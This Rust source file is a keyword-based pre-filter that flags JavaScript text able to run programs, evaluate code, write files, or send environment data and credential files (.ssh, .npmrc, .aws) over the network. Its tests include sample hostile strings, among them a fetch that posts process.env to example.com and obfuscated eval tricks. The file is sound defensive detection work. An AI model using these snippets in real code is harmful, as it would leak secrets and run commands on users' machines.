//! Texts that cannot do anything, told without parsing.
//!
//! What acts is reached by the name of a module or function that starts programs, evaluates or
//! writes, or behind what makes names out of values. Of the latter only forms are looked for that
//! ordinary code does not have: modules named by what is computed, escapes in strings, character
//! codes, and code without letters. Talking to other machines does nothing that weighs unless
//! something comes of it, or something is told of this machine.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

/// How a word counts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sign {
    /// Reason enough to look.
    Enough,
    /// Loads a module: reason enough unless its name stands there.
    Loads,
    /// Talks to other machines.
    Talks,
    /// Tells of this machine.
    Tells,
}

const ENOUGH: &[&str] = &[
    "child_process",
    "child_pro",
    "execSync",
    "execFile",
    "spawnSync",
    "shelljs",
    "execa",
    "'zx'",
    "\"zx\"",
    "cross-spawn",
    "node-pty",
    "eval(",
    "eval;",
    "eval)",
    "eval`",
    "(eval",
    ",eval",
    "= eval",
    "=eval",
    "\"eval",
    "'eval",
    "Function(",
    "Function)",
    "Function`",
    "runInThisContext",
    "runInNewContext",
    "runInContext",
    "vm.Script",
    "_compile",
    "._load",
    "mainModule",
    "process.binding",
    "process.dlopen",
    "getBuiltinModule",
    "constructor(",
    "[\"constructor\"]",
    "['constructor']",
    "constructor[",
    "writeFile",
    "appendFile",
    "createWriteStream",
    "outputFile",
    "fs.chmod",
    "fs.symlink",
    "Deno.",
    "Bun.",
    "Bun`",
    "fromCharCode",
    "unescape(",
    "authorized_keys",
    "stratum+",
    "importScripts",
    "new Worker",
    "process[",
    "globalThis[",
    "global[",
    "_0x",
    "createServer",
    "express",
    "fastify",
    "'koa'",
    "\"koa\"",
    "spawn(",
    "process.kill",
];

const LOADS: &[&str] = &[
    "require(",
    "import(",
    "require (",
    "require[",
    "['require']",
    "[\"require\"]",
];

const TALKS: &[&str] = &[
    "http",
    "net.connect",
    "net.Socket",
    "createConnection",
    "fetch(",
    "axios",
    "WebSocket",
    "XMLHttpRequest",
    "dgram",
    "'dns'",
    "\"dns\"",
    "'tls'",
    "\"tls\"",
    "'ws'",
    "\"ws\"",
];

const TELLS: &[&str] = &[
    "process.env)",
    "process.env;",
    "process.env,",
    "process.env }",
    "process.env}",
    "os.userInfo",
    "os.hostname",
    "readFileSync('/",
    "readFileSync(\"/",
    "readFile('/",
    "readFile(\"/",
    ".ssh",
    ".npmrc",
    ".aws",
];

static WORDS: LazyLock<Option<(AhoCorasick, Vec<Sign>)>> = LazyLock::new(|| {
    let groups = [
        (ENOUGH, Sign::Enough),
        (LOADS, Sign::Loads),
        (TALKS, Sign::Talks),
        (TELLS, Sign::Tells),
    ];
    let signs_of = |(group, sign): &(&'static [&'static str], Sign)| {
        let sign = *sign;
        group.iter().map(move |word| (*word, sign))
    };
    let (words, signs): (Vec<&str>, Vec<Sign>) = groups.iter().flat_map(signs_of).unzip();
    Some((AhoCorasick::new(words).ok()?, signs))
});

/// Share of characters of a text that brackets and signs are where letters are avoided, in tenths.
const WITHOUT_LETTERS: usize = 9;

/// Whether a text may do anything.
pub fn may_act(text: &str) -> bool {
    let bytes = text.as_bytes();
    let Some((automaton, signs)) = &*WORDS else {
        return true;
    };
    let (mut talks, mut tells) = (false, false);
    for found in automaton.find_overlapping_iter(bytes) {
        match signs.get(found.pattern().as_usize()) {
            Some(Sign::Loads) if !names_module(bytes, found.end()) => return true,
            Some(Sign::Loads) => {}
            Some(Sign::Talks) => talks = true,
            Some(Sign::Tells) => tells = true,
            _ => return true,
        }
        if talks && tells {
            return true;
        }
    }
    let escapes = memchr::memmem::find_iter(bytes, b"\\x")
        .chain(memchr::memmem::find_iter(bytes, b"\\u00"))
        .take(ESCAPES)
        .count();
    escapes >= ESCAPES || is_without_letters(bytes)
}

/// Escapes of characters that need none, from which on a text is looked at.
const ESCAPES: usize = 16;

/// Whether a whole string stands behind `require(`, as in ordinary code.
fn names_module(bytes: &[u8], at: usize) -> bool {
    let rest = bytes.get(at..).unwrap_or_default().trim_ascii_start();
    let Some((quote @ (b'"' | b'\''), inner)) = rest.split_first() else {
        return false;
    };
    let end = memchr::memchr2(*quote, b'\n', inner.get(..256).unwrap_or(inner));
    let (name, behind) = match end {
        Some(end) => inner.split_at(end),
        None => return false,
    };
    let behind = behind.get(1..).unwrap_or_default().trim_ascii_start();
    behind.first() == Some(&b')') && !name.contains(&b'\\')
}

/// Whether a text is made of brackets and signs: code that avoids letters.
fn is_without_letters(bytes: &[u8]) -> bool {
    let head = bytes.get(..bytes.len().min(4096)).unwrap_or_default();
    let signs = head.iter().filter(|byte| b"[]()!+{}/\\_$\n".contains(byte));
    head.len() > 64 && signs.count() * 10 > head.len() * WITHOUT_LETTERS
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_only_computes_is_passed_over() {
        for text in [
            "export const a = 1;\nexport default function b() { return a; }",
            "Object.defineProperty(exports, '__esModule', { value: true });\nexports.x = y => y + 1;",
            "const a = require('./a');\nconst fs = require(\"fs\");\nfs.readFileSync('x');",
            "const http = require('http');\nhttp.get(url, f);",
        ] {
            assert!(!may_act(text), "{text}");
        }
    }

    #[test]
    fn whatever_may_act_is_read() {
        for text in [
            "require('child_process').exec('id')",
            "import cp from 'node:child_process'",
            "process.mainModule.require('child'+'_process')",
            "[].filter.constructor('return 1')()",
            "(0,eval)('1')",
            "var _0x1a=['a'];",
            "fetch('http://example.com', {body: JSON.stringify(process.env)})",
            "require(a + b)",
            "require('a' + 'b')",
        ] {
            assert!(may_act(text), "{text}");
        }
        assert!(may_act(&"[][(![]+[])[+[]]+".repeat(10)));
    }
}
